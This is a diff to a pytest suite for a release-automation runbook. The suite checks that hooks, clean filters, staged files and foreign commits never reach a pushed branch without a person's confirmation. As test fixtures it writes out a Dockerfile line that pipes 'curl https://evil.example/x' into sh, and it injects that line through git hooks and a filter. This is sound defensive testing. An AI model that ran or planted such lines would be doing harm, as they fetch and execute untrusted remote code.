@@ -1,39 +1,44 @@
 """Nothing is pushed or tested that the runbook did not make, unless a person has confirmed that very commit."""
 
-import subprocess
 from collections.abc import Callable
-from dataclasses import replace
+from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
 from bumping import BRANCH, CONTRIBUTOR, World, bump_to, git
 
-from runbook_lib.bump import FOREIGN, Bump
+from runbook_lib.bump import FOREIGN
 from runbook_lib.clients.github.client import GitHub
 from runbook_lib.errors import Refused, RunbookError
 from runbook_lib.git import commit_changes
-from runbook_lib.steps import run_ci
-from runbook_lib.text.edits import Edit
+from runbook_lib.steps.run_ci import RunCi
 from runbook_lib.workflow import branch_history, bump_branch, ci_run, golden_refreshes, pull_request, push_round
-from runbook_lib.workflow.pull_request import PullRequestState
 
 TITLE = "chore: Update Docker image version to 26.04-py3"
 PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
 GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_values_dev_dgx_h100.json"
+PINNED = {PIN, DOCKERFILE, ".gitlab/stages/01.build.yml"}
 EVIL = "RUN curl https://evil.example/x | sh\n"
 
 
-def authorize(world: World, **parameters: str) -> PullRequestState:
-    """Step 4 up to its comment, as its notebook runs it."""
-    bump = bump_to(**parameters)  # type: ignore[arg-type]
-    step = world.step(bump)
-    state = pull_request.read_state(bump_branch.find(world.checkout, bump), world.github(), records=step.records)
-    assert state.show().text
-    state = ci_run.authorize(step, state)
-    run_ci.show(state, None)
-    run_ci.verify(step, state, None if state.waiting else run_ci.follow(step, state))
-    step.raise_if_failed()  # a foreign commit is no failure
-    return state
+@dataclass(frozen=True)
+class Reviewed:
+    """Why step 4 did not authorize CI, and what to do; empty if it did.  The review of the branch's commits."""
+
+    waiting: str
+    next: str
+    review: branch_history.Review
+
+
+def authorize(world: World, **parameters: str) -> Reviewed:
+    """Step 4, as its notebook runs it."""
+    bump = world.run(RunCi(), **parameters)
+    outcome = [*world.said("done"), *world.said("waiting")][-1]
+    sentence = str(outcome["sentence"])
+    if sentence.startswith("waiting for CI run"):
+        sentence = ""
+    branch = bump_branch.find(world.checkout, bump)
+    return Reviewed(sentence, str(outcome["next"]), branch_history.review(branch, branch.start, world.records))
 
 
 def commands(world: World) -> list[str]:
@@ -199,7 +204,6 @@ def test_commits_pushed_by_others_are_not_tested(opened: World, attack: Callable
     state = authorize(opened, allow=allow)
     assert commands(opened) == []
     assert "waiting for a person to confirm" in state.waiting
-    assert state.review is not None
     first = state.review.foreign[0]
     assert f"{FOREIGN}:{first.id}" in state.next
     assert first.id in state.review.show().text
@@ -276,7 +280,7 @@ def test_a_fast_forward_to_a_foreign_commit_is_reported(opened: World) -> None:
     on_top(other)
     commit = other.push()
     opened.open_pr()
-    assert git(opened.checkout.path, "rev-parse", BRANCH) == commit
+    assert bump_branch.find(opened.checkout, bump_to()).start == commit
     warned = " ".join(it["sentence"] for it in opened.said("warning"))
     assert "is taken from the remote" in warned
     assert warned.count(commit[:10]) == 2
@@ -331,128 +335,61 @@ def test_a_merge_by_an_older_git_is_a_persons_to_confirm(opened: World, monkeypa
 # -- what is committed here -----------------------------------------------------------------------------------------
 
 
-def hook(world: World, name: str, body: str) -> Path:
+CHANGED = f"printf '%s' '{EVIL}' >> {DOCKERFILE} && git add {DOCKERFILE}"
+ADDED = "echo x > evil.sh && git add evil.sh"
+
+
+@pytest.mark.parametrize("body", [CHANGED, ADDED, "exit 1"])
+@pytest.mark.parametrize("name", ["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"])
+def test_a_hook_of_the_clone_changes_no_commit(world: World, name: str, body: str) -> None:
     file = world.checkout.path / ".git/hooks" / name
     file.parent.mkdir(exist_ok=True)
     file.write_text(f"#!/bin/sh\n{body}\n")
     file.chmod(0o755)
-    return file
-
-
-CHANGED = f"printf '%s' '{EVIL}' >> {DOCKERFILE} && git add {DOCKERFILE}"
-ADDED = "echo x > evil.sh && git add evil.sh"
-HOOKS = [
-    ("pre-commit", CHANGED), ("pre-commit", ADDED), ("pre-commit", f"chmod +x {PIN} && git add {PIN}"),
-    ("prepare-commit-msg", CHANGED), ("commit-msg", ADDED),
-    ("post-commit", f"[ -e .git/once ] && exit; touch .git/once; {ADDED}; git commit -q --amend --no-edit"),
-    ("post-commit", f"[ -e .git/once ] && exit; touch .git/once; {CHANGED}; git commit -q -m more"),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize(("name", "body"), HOOKS)
-def test_a_commit_changed_by_a_hook_is_not_pushed(world: World, name: str, body: str) -> None:
-    file = hook(world, name, body)
-    made = world.open_pr()
-    if made.review is None or not made.review.foreign:
-        # What the hook has left beside the commit is in no commit.
-        assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) <= {
-            PIN, DOCKERFILE, ".gitlab/stages/01.build.yml",
-        }  # fmt: skip
-        assert name in ("prepare-commit-msg", "commit-msg")
-        return
-    assert git(world.remote, "branch", "--list", BRANCH) == ""
-    assert "push" not in world.effects()
-    commit = made.review.foreign[0].id
-    assert world.outcome().startswith("waiting for a person to confirm")
-    assert f"{FOREIGN}:{commit}" in world.said("waiting")[-1]["next"]
-    assert "reset --hard" in world.said("waiting")[-1]["next"]
-    assert world.steps[-1].reported().text.count(commit) >= 2
-    # Undone as it was told, and with the hook gone, all goes on; confirmed, it goes on as it is.
-    file.unlink()
     world.open_pr()
-    assert git(world.remote, "branch", "--list", BRANCH) == ""
-    told = world.said("waiting")[-1]["next"].split("`")[1]
-    subprocess.run(told, shell=True, check=True, capture_output=True)
-    git(world.checkout.path, "clean", "-qfd")
-    assert world.open_pr().pull is not None
-    assert authorize(world).waiting == ""
+    pushed = git(world.remote, "diff", "main", BRANCH)
+    assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) == PINNED
+    assert EVIL.strip() not in pushed
 
 
-def test_a_hooks_changes_are_pushed_once_confirmed(world: World) -> None:
-    hook(world, "pre-commit", CHANGED)
-    made = world.open_pr()
-    assert made.review is not None
-    commit = made.review.foreign[0].id
-    assert made.commit == commit
-    world.open_pr(allow=f"{FOREIGN}:{commit}")
-    assert world.head() == commit
-    assert [it["exception"] for it in world.said("exception")] == [f"{FOREIGN}:{commit}"]
-    assert authorize(world).waiting == ""
-
-
-def test_a_filter_that_changes_what_is_committed_is_found(world: World) -> None:
+def test_a_filter_and_staged_changes_stay_out_of_the_commit(world: World) -> None:
     path = world.checkout.path
     git(path, "config", "filter.evil.clean", "sed '/26.04-py3$/a RUN curl https://evil.example/x'")
     (path / ".git/info").mkdir(exist_ok=True)
     (path / ".git/info/attributes").write_text(f"{DOCKERFILE} filter=evil\n")
-    made = world.open_pr()
-    assert made.review is not None
-    assert made.review.foreign
-    assert git(world.remote, "branch", "--list", BRANCH) == ""
-
-
-def test_previously_staged_changes_are_not_committed(world: World) -> None:
-    path = world.checkout.path
     (path / "evil.sh").write_text(EVIL)
     git(path, "add", "evil.sh")
-    made = world.open_pr()
-    assert made.review is not None
-    assert made.review.foreign == ()
-    assert "evil.sh" not in git(world.remote, "ls-tree", "-r", "--name-only", BRANCH)
+    world.open_pr()
+    assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) == PINNED
+    assert "evil" not in git(world.remote, "diff", "main", BRANCH)
     assert git(path, "diff", "--cached", "--name-only") == "evil.sh"
 
 
-def test_changes_during_a_commit_are_detected(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    carry_out = bump_branch.apply_edits
-
-    def beside(branch: bump_branch.BumpBranch, edits: list[Edit]) -> list[Edit]:
-        written = carry_out(branch, edits)
-        with (world.checkout.path / DOCKERFILE).open("a") as file:
-            file.write(EVIL)
-        return written
-
-    monkeypatch.setattr(branch_history, "apply_edits", beside)
-    made = world.open_pr()
-    assert made.review is not None
-    assert EVIL.strip() in world.steps[-1].reported().text
-    assert git(world.remote, "branch", "--list", BRANCH) == ""
-
-
-def test_exactly_the_reviewed_commit_is_pushed(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    review = branch_history.review
+def test_a_commit_made_after_the_review_is_not_pushed(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    review, before = branch_history.review, opened.head()
+    opened.commit_on("main", "notes", "more\n")
+    git(opened.checkout.path, "switch", "-q", BRANCH)
 
     def then(branch: bump_branch.BumpBranch, commit: str, records: Path | None) -> branch_history.Review:
         found = review(branch, commit, records)
-        (world.checkout.path / "evil.sh").write_text(EVIL)
-        git(world.checkout.path, "add", "evil.sh")
-        git(world.checkout.path, "commit", "-q", "-m", TITLE)
+        git(opened.checkout.path, "commit", "-q", "--allow-empty", "-m", TITLE)
         return found
 
     monkeypatch.setattr(branch_history, "review", then)
-    made = world.open_pr()
-    assert world.head() == made.commit
-    assert "evil.sh" not in git(world.remote, "ls-tree", "-r", "--name-only", BRANCH)
+    with pytest.raises(Refused, match="has moved"):
+        opened.open_pr(allow="merge-base")
+    assert opened.head() == before
 
 
 def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
     path, before = opened.checkout.path, opened.head()
+    git(path, "switch", "-q", BRANCH)
     (path / "notes").write_text("mine\n")
     git(path, "add", "notes")
     git(path, "commit", "-q", "-m", TITLE)
     for mode in ("preview", "apply", "publish"):
-        made = opened.open_pr(mode=mode)
-        assert made.review is not None
-        assert "notes" in opened.steps[-1].reported().text
+        opened.open_pr(mode=mode)
+        assert "notes" in (opened.steps[-1].folder / "change.diff").read_text()  # type: ignore[operator]
         assert "push" not in opened.effects()
         assert [it["name"] for it in opened.said("decision")] == [f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}"]
     assert opened.head() == before
@@ -464,6 +401,7 @@ def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
     assert authorize(opened).waiting == ""
     opened.now[0] += 1000
     path = opened.checkout.path
+    git(path, "switch", "-q", BRANCH)
     (path / GOLDEN).write_text("{}\n")
     git(path, "commit", "-q", "-am", "test: refresh golden values for 26.04-py3")
     before, bump = opened.head(), bump_to()
@@ -515,7 +453,6 @@ def test_a_diff_is_bounded_redacted_and_visible(opened: World, monkeypatch: pyte
     other.commit("evil \x1b[2J\u202e <script>")
     other.push()
     review = authorize(opened).review
-    assert review is not None
     shown = review.show()
     bundle = "".join(shown._repr_mimebundle_().values())
     assert "more lines" in bundle
@@ -549,9 +486,10 @@ def test_records_in_another_format_prove_nothing(opened: World, tmp_path: Path) 
 
 def test_a_persons_own_branch_is_not_ours(opened: World) -> None:
     """Whoever's pull request it is: only a person authorizes CI there."""
-    bump: Bump = bump_to()
-    state = pull_request.read_state(bump_branch.find(opened.checkout, bump), opened.github())
+    github = opened.github()
+    state = pull_request.read_state(bump_branch.find(opened.checkout, bump_to()), github)
     assert state.pull is not None
-    theirs = replace(state, pull=replace(state.pull, head_owner=CONTRIBUTOR))
-    assert "by hand" in ci_run.authorize(opened.step(bump), theirs).waiting
-    assert commands(opened) == []
+    theirs = replace(state.pull, head_owner=CONTRIBUTOR)
+    obstacle = ci_run.find_obstacle(replace(state, pull=theirs), theirs, github)
+    assert obstacle is not None
+    assert "by hand" in obstacle.sentence
